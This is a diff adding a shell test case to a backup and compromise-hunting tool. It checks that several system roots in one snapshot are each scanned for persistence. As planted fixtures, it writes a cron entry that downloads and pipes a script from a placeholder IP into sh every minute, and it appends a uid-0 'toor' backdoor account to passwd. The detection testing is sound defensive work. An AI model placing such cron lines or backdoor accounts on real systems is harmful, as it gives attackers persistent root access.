@@ -83,6 +83,26 @@ python3 -c 'import json,sys; assert len(json.load(open(sys.argv[1]))) == 2' "$CR
     fail "a refused backup saves nothing"
 pass "backup --root"
 
+# Several systems in one snapshot, without a common root: each is judged from its own.
+mkdir -p "$P/vms/vm1/etc/cron.d" "$P/vms/vm2/etc/cron.d" "$P/vms/shared"
+printf 'root:x:0:0:root:/root:/bin/bash\n' | tee "$P/vms/vm1/etc/passwd" >"$P/vms/vm2/etc/passwd"
+printf 'data\n' >"$P/vms/shared/readme.txt"
+expect_exit 0 cr backup --source srv7 --time 2026-12-01 "$P/vms/vm1" "$P/vms/vm2" "$P/vms/shared"
+printf '* * * * * root wget -qO- http://203.0.113.9/y | sh\n' >"$P/vms/vm2/etc/cron.d/y"
+printf 'toor:x:0:0::/root:/bin/bash\n' >>"$P/vms/vm1/etc/passwd"
+expect_exit 0 cr backup --source srv7 --time 2026-12-02 "$P/vms/vm1" "$P/vms/vm2" "$P/vms/shared"
+expect_exit 0 cr hunt --source srv7
+grep -q "no system root" "$CR_OUT" "$CR_ERR" && fail "srv7 has two system roots"
+expect_exit 0 cr findings --json --source srv7 --min-severity high
+python3 - "$CR_OUT" "$P/vms" <<'PY' || fail "each path holding a system is judged as one"
+import json, sys
+F = json.load(open(sys.argv[1]))["findings"]
+V = sys.argv[2]
+assert [f for f in F if f["path"] == V + "/vm2/etc/cron.d/y" and f["indicator"] == "persistence:cron"], F
+assert [f for f in F if f["path"] == V + "/vm1/etc/passwd" and f["indicator"] == "persistence:uid0"], F
+PY
+pass "several systems, each its own root"
+
 # Several paths and no system among them: said loudly, not called clean.
 mkdir -p "$P/data/a" "$P/data/b"
 printf 'x\n' >"$P/data/a/x.txt"
